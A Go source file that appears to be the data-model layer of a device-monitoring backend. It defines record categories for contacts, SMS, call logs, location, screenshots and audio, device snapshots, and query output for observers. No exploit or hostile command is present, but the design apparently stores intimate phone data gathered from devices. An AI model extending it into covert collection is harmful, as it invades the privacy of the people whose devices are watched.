package telemetry

import (
	"encoding/json"
	"fmt"
	"time"
)

// Category identifies one of the fixed telemetry kinds.
type Category string

// The fixed category set. Device info travels on a separate merge channel
// (see Store.MergeInfo) and is not a Category.
const (
	CategoryContacts   Category = "contacts"
	CategorySMS        Category = "sms"
	CategoryCallLog    Category = "calllog"
	CategoryLocation   Category = "location"
	CategoryScreenshot Category = "screenshot"
	CategoryAudio      Category = "audio"
)

// AllCategories returns every valid category.
func AllCategories() []Category {
	return []Category{
		CategoryContacts,
		CategorySMS,
		CategoryCallLog,
		CategoryLocation,
		CategoryScreenshot,
		CategoryAudio,
	}
}

// Valid reports whether c is a recognised category.
func (c Category) Valid() bool {
	switch c {
	case CategoryContacts, CategorySMS, CategoryCallLog,
		CategoryLocation, CategoryScreenshot, CategoryAudio:
		return true
	}
	return false
}

// ParseCategory converts a string to a Category.
// Returns ErrUnknownCategory for unrecognised values.
func ParseCategory(s string) (Category, error) {
	c := Category(s)
	if !c.Valid() {
		return "", fmt.Errorf("%w: %q", ErrUnknownCategory, s)
	}
	return c, nil
}

// TimestampField is the record key holding the server-assigned ingest time.
const TimestampField = "timestamp"

// Record is one unit of telemetry data. The field set varies by category
// and producers may send arbitrary extra fields, so the type is an open
// string-keyed map rather than a closed schema. The store assigns a
// TimestampField value at append time when the producer did not supply one.
type Record map[string]any

// Clone creates a complete independent copy of the Record.
// Nested maps and slices are recursively copied so modifications to the
// copy do not affect the original.
func (r Record) Clone() Record {
	if r == nil {
		return nil
	}
	return Record(deepCopyMap(r))
}

// Info is the merged device metadata map. Merges are last-write-wins per
// key; the store stamps a "last_updated" value on every merge.
type Info map[string]any

// LastUpdatedField is the info key holding the time of the latest merge.
const LastUpdatedField = "last_updated"

// Clone creates a complete independent copy of the Info map.
func (i Info) Clone() Info {
	if i == nil {
		return nil
	}
	return Info(deepCopyMap(i))
}

// TaggedRecord is a record attributed to the device that produced it,
// used by cross-device queries.
type TaggedRecord struct {
	DeviceID string
	Record   Record
}

// MarshalJSON flattens the record fields alongside a "deviceId" key, the
// shape observers receive from unscoped query endpoints. The deviceId key
// is authoritative and overrides any record field of the same name.
func (t TaggedRecord) MarshalJSON() ([]byte, error) {
	m := make(map[string]any, len(t.Record)+1)
	for k, v := range t.Record {
		m[k] = v
	}
	m["deviceId"] = t.DeviceID
	return json.Marshal(m)
}

// DeviceSummary pairs a device id with its merged info.
type DeviceSummary struct {
	DeviceID string `json:"deviceId"`
	Info     Info   `json:"info"`
}

// DeviceSnapshot is an immutable point-in-time copy of one device's state.
type DeviceSnapshot struct {
	Info        Info     `json:"info"`
	Contacts    []Record `json:"contacts"`
	SMS         []Record `json:"sms"`
	CallLogs    []Record `json:"calllogs"`
	Locations   []Record `json:"locations"`
	Screenshots []Record `json:"screenshots"`
	Audio       []Record `json:"audio"`
}

// Snapshot is an immutable point-in-time copy of the entire registry,
// keyed by device id. It is a value, not a view: later store mutations
// never change a previously taken snapshot.
type Snapshot map[string]DeviceSnapshot

// nowTimestamp returns the server timestamp string assigned to records
// and info merges. ISO 8601 in UTC, matching what producers send.
func nowTimestamp() string {
	return time.Now().UTC().Format(time.RFC3339Nano)
}

// deepCopyMap creates a deep copy of a map[string]any.
// Nested maps and slices are recursively copied.
func deepCopyMap(m map[string]any) map[string]any {
	if m == nil {
		return nil
	}
	cpy := make(map[string]any, len(m))
	for k, v := range m {
		cpy[k] = deepCopyValue(v)
	}
	return cpy
}

// deepCopyValue recursively copies a value, handling nested maps and slices.
func deepCopyValue(v any) any {
	if v == nil {
		return nil
	}
	switch val := v.(type) {
	case map[string]any:
		return deepCopyMap(val)
	case Record:
		return deepCopyMap(val)
	case Info:
		return deepCopyMap(val)
	case []any:
		cpy := make([]any, len(val))
		for i, elem := range val {
			cpy[i] = deepCopyValue(elem)
		}
		return cpy
	default:
		// Primitives (string, bool, int, float64, etc.) are safe to copy by value
		return v
	}
}
